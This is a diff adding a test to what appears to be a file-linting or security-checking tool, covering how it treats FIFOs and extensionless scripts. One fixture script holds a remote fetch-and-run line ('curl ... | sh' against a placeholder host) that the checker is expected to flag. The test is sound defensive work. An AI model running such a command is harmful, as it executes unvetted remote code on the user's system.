@@ -185,6 +185,16 @@ def test_a_fifo_never_blocks(tmp_path: Path) -> None:
     assert "b.Dockerfile:1:6: HP102" in r.stdout and "requirements.txt:2:1: HP302" in r.stdout
 
 
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+def test_a_fifo_without_extension_is_not_sniffed(tmp_path: Path) -> None:
+    # a file without an extension is read for a shebang: never a FIFO's
+    os.mkfifo(tmp_path / "build")
+    (tmp_path / "run").write_text("#!/bin/sh\ncurl -s https://x.example/i | sh\n")
+    r = run_cli("check", "build", "run", cwd=tmp_path)
+    assert "Traceback" not in r.stderr and r.returncode == 1, r.stderr
+    assert "build: skipped: a named pipe" in r.stderr and "run:2:" in r.stdout
+
+
 @pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="no /dev/zero")
 def test_a_device_named_dockerfile_is_not_read(tmp_path: Path) -> None:
     (tmp_path / "Dockerfile").symlink_to("/dev/zero")
